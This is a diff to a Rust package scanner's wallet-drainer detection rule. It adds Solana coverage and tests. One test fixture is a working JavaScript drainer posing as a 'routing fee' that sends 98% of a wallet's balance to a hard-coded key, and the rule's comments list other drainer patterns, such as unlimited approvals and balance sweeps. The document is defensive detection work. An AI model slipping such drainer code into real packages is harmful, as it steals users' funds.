@@ -17,12 +17,14 @@ diligence_finding::declare_rule! {
     /// `transferFrom` `0x23b872dd`, `setApprovalForAll` `0xa22cb465`, `increaseAllowance` `0x39509351`) and
     /// embeds a hard-coded address as spender or recipient. Also the same hand-overs through a contract or
     /// signer object (`token.approve(MINE, MaxUint256)`, `nft.setApprovalForAll(MINE, true)`,
-    /// `signer.sendTransaction({ to: MINE, value })`) and permit messages (EIP-2612, Permit2) whose `spender`
+    /// `signer.sendTransaction({ to: MINE, value })`, Solana's `SystemProgram.transfer({ toPubkey: VAULT,
+    /// lamports })` with `VAULT = new PublicKey('<literal>')`) and permit messages (EIP-2612, Permit2) whose `spender`
     /// is a hard-coded address. A hard-coded address is a literal, a constant, or a member of a constant
     /// configuration object (`to: CFG.receiver` with `var CFG = { receiver: '0x…', … }`). High; critical when the
     /// amount is unlimited
     /// (`'f'.repeat(64)`, `MaxUint256`) or the file builds more than one such transaction (approve every
-    /// token, then sweep the native balance).
+    /// token, then sweep the native balance); a Solana transfer in a file that reads the wallet's balance
+    /// (`getBalance`) is a sweep, critical.
     ///
     /// ## Why it matters
     /// Drainers injected into hijacked front-end packages (the October 2024 `@lottiefiles/lottie-player`
@@ -199,5 +201,39 @@ exports.send = function (p, tx) {
             ),
         ]);
         assert!(hits(&s, "code/wallet-drainer").is_empty());
+    }
+
+    /// A Solana batch sender whose "routing fee" moves most of the balance to a hard-coded key.
+    #[test]
+    fn positive_solana_fee_from_the_balance_to_a_constant_key() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { PublicKey, SystemProgram, Transaction } = require('@solana/web3.js');\nconst VAULT = new PublicKey('Vau1tAddr3ss1111111111111111111111111111111');\nexports.fee = async function (conn, payer) {\n  const bal = await conn.getBalance(payer.publicKey);\n  const amt = Math.floor(bal * 9800 / 10000);\n  return new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: VAULT, lamports: amt }));\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-drainer"),
+            vec![("index.js".to_string(), 6)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A fee-taking SDK whose fee recipient is the caller's configuration.
+    #[test]
+    fn negative_solana_fee_to_the_callers_recipient() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { PublicKey, SystemProgram, Transaction } = require('@solana/web3.js');\nexports.fee = async function (conn, payer, opts) {\n  const bal = await conn.getBalance(payer.publicKey);\n  const amt = Math.floor(bal * opts.feeBps / 10000);\n  return new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(opts.feeRecipient), lamports: amt }));\n};\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/wallet-drainer").is_empty(),
+            "{:?}",
+            s.findings
+        );
     }
 }
